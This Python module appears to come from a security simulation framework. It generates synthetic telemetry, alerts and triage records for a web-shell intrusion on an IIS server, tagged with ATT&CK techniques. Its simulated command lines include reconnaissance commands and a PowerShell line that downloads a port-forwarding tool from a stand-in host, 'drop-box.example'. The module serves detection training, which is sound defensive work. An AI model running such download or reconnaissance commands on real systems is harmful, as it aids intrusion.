"""A flaw in the public web application leaves a page behind that runs commands."""

from __future__ import annotations

from vedette.simulation.alerts import Triage
from vedette.simulation.files import artifact
from vedette.simulation.scene import Scene, scenario

ATTACKER = "203.0.113.66"


@scenario(
    "web-shell",
    "Web shell on the public web server",
    "T1190",
    "T1505.003",
    "T1059.003",
    "T1033",
    "T1016",
    "T1105",
)
def play(scene: Scene) -> None:
    """The worker process of IIS writes a page and starts command shells at the request of an outside address."""
    start = scene.moment(3, "18:22")
    desk = scene.desk(scene.server("web"), start)
    worker = desk["w3wp"]
    for attempt in range(6):
        desk.connect(
            worker,
            scene.later(start, 20 * attempt, 20 * attempt + 9),
            ATTACKER,
            41_000 + attempt,
            action="InboundConnectionAccepted",
            local_port=443,
        )
    page = artifact("C:\\inetpub\\wwwroot\\orders\\uploads\\errorinfo.aspx", "shell page 5", size=1_482)
    visit = desk.connect(
        worker, scene.later(start, 150), ATTACKER, 41_220, action="InboundConnectionAccepted", local_port=443
    )
    dropped = desk.file(worker, scene.later(start, 151), page)
    scene.alert(
        desk,
        dropped.time,
        "Web server process wrote a script into the web root",
        "The worker process of IIS created a page in the site's upload folder right after requests from outside.",
        worker,
        dropped,
        visit,
        category="Persistence",
        severity="High",
        techniques=("T1190", "T1505.003"),
        user=worker.account,
        triage=Triage("InProgress", assigned_to="responder@halden.example", comments=("Site taken offline.",)),
    )

    commands = ("whoami", "ipconfig /all", "net localgroup administrators", "tasklist /v", "systeminfo")
    told = []
    for number, command in enumerate(commands):
        at = scene.later(start, 200 + 30 * number)
        desk.connect(
            worker, scene.later(at, -0.3), ATTACKER, 41_300 + number, action="InboundConnectionAccepted", local_port=443
        )
        shell = desk.start(worker, at, "cmd.exe", f'"cmd.exe" /c {command}', integrity="High")
        told += [shell, desk.start(shell, scene.later(at, 0.2), f"{command.split()[0]}.exe", command)]
    out = desk.start(
        worker,
        scene.later(start, 400),
        "powershell.exe",
        'powershell.exe -c "iwr https://drop-box.example/p -OutFile C:\\ProgramData\\p.exe"',
        integrity="High",
    )
    pulled = desk.connect(out, scene.later(out.created, 1.5), "203.0.113.67", 443, "drop-box.example")
    tool = artifact("C:\\ProgramData\\p.exe", "port forwarder 1", size=188_416)
    brought = desk.file(
        out, scene.later(out.created, 3), tool, FileOriginUrl="https://drop-box.example/p", FileOriginIP="203.0.113.67"
    )
    desk.event(
        desk["msmpeng"],
        scene.later(out.created, 4),
        "AntivirusDetection",
        {"ThreatName": "HackTool:Win32/PortFwd.A", "WasRemediated": True},
        **tool.columns,
    )
    scene.alert(
        desk,
        told[-1].created,
        "Commands were run through the web server",
        "The worker process of IIS started command shells that ask about the system, its accounts and its network.",
        worker,
        *told[:4],
        visit,
        category="Execution",
        severity="High",
        techniques=("T1505.003", "T1059.003", "T1033", "T1016"),
        user=worker.account,
        triage=Triage("InProgress", assigned_to="responder@halden.example"),
    )
    scene.alert(
        desk,
        scene.later(out.created, 4),
        "A hacking tool was blocked",
        "The antivirus removed a port forwarder that PowerShell had downloaded for the web server's account.",
        out,
        pulled,
        brought,
        category="Malware",
        severity="Low",
        techniques=("T1105",),
        source="WindowsDefenderAv",
        threat="HackTool:Win32/PortFwd.A",
        family="PortFwd",
        user=worker.account,
        triage=Triage(
            "Resolved",
            "TruePositive",
            "Malware",
            "Automation",
            ("Removed by the antivirus.",),
            "SuccessfullyRemediated",
        ),
    )
